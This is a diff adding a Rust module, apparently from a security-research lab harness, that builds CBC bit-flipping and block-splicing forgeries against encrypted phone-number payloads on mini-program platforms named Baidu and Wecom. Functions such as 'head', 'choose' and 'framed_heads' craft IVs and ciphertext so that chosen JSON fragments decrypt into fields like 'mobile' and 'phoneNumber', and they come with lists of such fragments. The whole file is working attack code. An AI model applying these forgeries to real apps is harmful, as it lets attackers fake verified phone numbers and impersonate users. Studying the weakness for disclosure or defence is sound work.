@@ -1,0 +1,135 @@
+//! What can be done to CBC without the key: put sealed blocks behind each other, and choose the plaintext of one block by
+//! the ciphertext in front of it. <https://en.wikipedia.org/wiki/Block_cipher_mode_of_operation#CBC>
+
+use mp_phone::Platform;
+
+use crate::{
+    lab::{Lab, length},
+    payloads::APP_KEY,
+    seal::{Block, Own, xor},
+};
+
+/// Where forgeries go: their kind, iv and ciphertext.
+pub(crate) type Send<'a> = &'a mut dyn FnMut(&'static str, Block, &[Block]);
+
+pub(crate) struct Forged {
+    pub(crate) iv: Block,
+    pub(crate) sealed: Vec<Block>,
+}
+
+impl Forged {
+    /// Begins with a block of the attacker's choice, in the place of a block of his own. The iv chooses it; in Baidu's
+    /// frame a sealed block does, which decrypts to the random bytes that nobody reads.
+    pub(crate) fn head(lab: &Lab, own: &Own, at: usize, wanted: Block) -> Self {
+        let lever = xor(own.opened(at), wanted);
+        match lab.platform {
+            Platform::Baidu => Self { iv: own.iv, sealed: vec![lever, own.sealed[at]] },
+            _ => Self { iv: lever, sealed: vec![own.sealed[at]] },
+        }
+    }
+
+    /// Begins as a payload begins.
+    pub(crate) fn begin(own: &Own, end: usize) -> Self {
+        Self { iv: own.iv, sealed: own.sealed[..end].to_vec() }
+    }
+
+    /// Goes on with blocks of a payload. The first is garbled, unless it follows its own predecessor.
+    pub(crate) fn run(mut self, own: &Own, blocks: core::ops::Range<usize>) -> Self {
+        self.sealed.extend(&own.sealed[blocks]);
+        self
+    }
+
+    /// Goes on with a garbled block, and one of the attacker's choice in the place of a block of his own.
+    pub(crate) fn choose(mut self, own: &Own, at: usize, wanted: Block) -> Self {
+        self.sealed.extend([xor(own.opened(at), wanted), own.sealed[at]]);
+        self
+    }
+
+    pub(crate) fn send(&self, kind: &'static str, send: Send) {
+        send(kind, self.iv, &self.sealed);
+    }
+}
+
+/// First blocks that an attacker wants in front of the blocks behind `at`, up to `end`.
+pub(crate) fn heads(lab: &Lab, own: &Own, at: usize, end: usize) -> Vec<Block> {
+    let starts: &[&[u8]] = match lab.platform {
+        Platform::Baidu => return framed_heads(own, at, end),
+        Platform::Wecom => &[
+            br#"{"mobile":"13912"#,
+            br#"{"mobile":139123"#,
+            br#"{ "mobile":"1999"#,
+            br#"{  "mobile":"199"#,
+            br#"{   "mobile":"19"#,
+            br#"{    "mobile":"1"#,
+            br#"{     "mobile":""#,
+            br#"{    "mobile":13"#,
+            br#"{        "mobile"#,
+            br#"{"corpid":"ww012"#,
+            br#"{"userid":"usera"#,
+        ],
+        _ => &[
+            br#"{"phoneNumber":""#,
+            br#"{"phoneNumber":1"#,
+            br#"{"phoneNumber": "#,
+            br#"{   "phoneNumber"#,
+            br#"{"purePhoneNumbe"#,
+            br#"{"countryCode":""#,
+            br#"{"countryCode":4"#,
+            br#"{"watermark":{"t"#,
+            br#"{"watermark":"xx"#,
+            br#"{"watermark":{},"#,
+            br#"{"mobile":"13912"#,
+            br#"{"x":"xxxxxxxxxx"#,
+            b"{               ",
+        ],
+    };
+    starts.iter().map(|start| (*start).try_into().unwrap()).collect()
+}
+
+/// Of a frame's first block the attacker chooses the length and twelve bytes of the content.
+fn framed_heads(own: &Own, at: usize, end: usize) -> Vec<Block> {
+    let starts: &[&[u8; 12]] = &[
+        br#"{"mobile":"1"#,
+        br#"{"mobile":13"#,
+        br#"{"mobile":"+"#,
+        br#"{"mobile":"-"#,
+        br#" {"mobile":""#,
+        b"{    \"mobile",
+        br#"{"sex":0,"mo"#,
+    ];
+    let rest = own.plain[at + 1..end].concat();
+    // The content ends before an App Key: that of the frame, or one that the attacker wrote himself.
+    let ends = rest.windows(APP_KEY.len()).enumerate().filter(|(_, text)| *text == APP_KEY.as_bytes());
+    let lengths = ends.map(|(key_at, _)| 12 + key_at).chain([12, rest.len() / 2]);
+    let block = |(length_of, start): (usize, &[u8; 12])| [&length(length_of)[..], start].concat().try_into().unwrap();
+    lengths.flat_map(|of| starts.iter().map(move |start| (of, *start))).map(block).collect()
+}
+
+/// Blocks that an attacker wants in the middle, behind a garbled one.
+pub(crate) fn middles(platform: Platform) -> &'static [&'static [u8; 16]] {
+    match platform {
+        Platform::Baidu => {
+            &[br#""}SyntheticAppKe"#, br#"","mobile":"1391"#, br#"":1,"mobile":139"#, b"139123456780\"}Sy"]
+        }
+        Platform::Wecom => &[
+            br#"","mobile":"1391"#,
+            br#"","mobile":13912"#,
+            br#"x","mobile":"139"#,
+            br#"":1,"mobile":139"#,
+            br#"","corpid":"ww01"#,
+            br#"","userid":"user"#,
+        ],
+        _ => &[
+            br#"","phoneNumber":"#,
+            br#"":1,"phoneNumber"#,
+            br#""purePhoneNumber"#,
+            br#"","purePhoneNumb"#,
+            br#"":1,"countryCode"#,
+            br#","countryCode":""#,
+            br#"","watermark":{""#,
+            br#""},"phoneNumber""#,
+            br#"13912345678","pu"#,
+            br#"","x":"xxxxxxxxx"#,
+        ],
+    }
+}
